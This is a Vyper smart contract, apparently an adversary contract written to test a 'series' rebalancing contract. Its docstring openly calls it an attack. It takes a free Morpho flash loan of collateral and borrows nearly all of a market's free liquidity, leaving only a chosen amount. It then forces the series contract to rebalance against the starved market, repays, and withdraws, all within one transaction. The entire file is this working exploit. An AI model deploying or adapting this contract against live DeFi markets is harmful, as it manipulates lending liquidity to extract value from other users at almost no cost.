# pragma version 0.4.3
# pragma evm-version cancun
"""
@title A taker that leaves a market almost nothing to lend while it takes a fill
@notice An attack. Collateral comes from Morpho's free flash loan, so it costs gas alone.
"""

from ethereum.ercs import IERC20

struct MarketParams:
    loanToken: address
    collateralToken: address
    oracle: address
    irm: address
    lltv: uint256

interface IMorpho:
    def flashLoan(token: address, assets: uint256, data: Bytes[32]): nonpayable
    def accrueInterest(market: MarketParams): nonpayable
    def supplyCollateral(market: MarketParams, assets: uint256, who: address, data: Bytes[1]): nonpayable
    def withdrawCollateral(market: MarketParams, assets: uint256, who: address, to: address): nonpayable
    def borrow(market: MarketParams, assets: uint256, shares: uint256, who: address, to: address) -> (uint256, uint256): nonpayable
    def repay(market: MarketParams, assets: uint256, shares: uint256, who: address, data: Bytes[1]) -> (uint256, uint256): nonpayable
    def market(id: bytes32) -> uint256[6]: view
    def position(id: bytes32, who: address) -> uint256[3]: view

interface ISeries:
    def rebalance(most: uint256, limit: int256) -> (uint256, uint256): nonpayable

MORPHO: immutable(IMorpho)
_market: MarketParams
_series: address
_leave: uint256


@deploy
def __init__(morpho: address, market: MarketParams, series: address):
    MORPHO = IMorpho(morpho)
    self._market = market
    self._series = series
    for token: address in [market.loanToken, market.collateralToken]:
        for spender: address in [morpho, series]:
            extcall IERC20(token).approve(spender, max_value(uint256), default_return_value=True)


@external
def squeeze(flash: uint256, leave: uint256):
    """
    @notice Borrows `flash` of collateral, leaves so many units to lend, and takes the fill.
    """
    self._leave = leave
    extcall MORPHO.flashLoan(self._market.collateralToken, flash, b"")


@external
def onMorphoFlashLoan(assets: uint256, data: Bytes[32]):
    market: MarketParams = self._market
    id: bytes32 = keccak256(abi_encode(market))
    extcall MORPHO.accrueInterest(market)
    state: uint256[6] = staticcall MORPHO.market(id)
    extcall MORPHO.supplyCollateral(market, assets, self, b"")
    extcall MORPHO.borrow(market, state[0] - state[2] - self._leave, 0, self, self)
    extcall ISeries(self._series).rebalance(max_value(uint256), min_value(int256))
    extcall MORPHO.repay(market, 0, (staticcall MORPHO.position(id, self))[1], self, b"")
    extcall MORPHO.withdrawCollateral(market, assets, self, self)
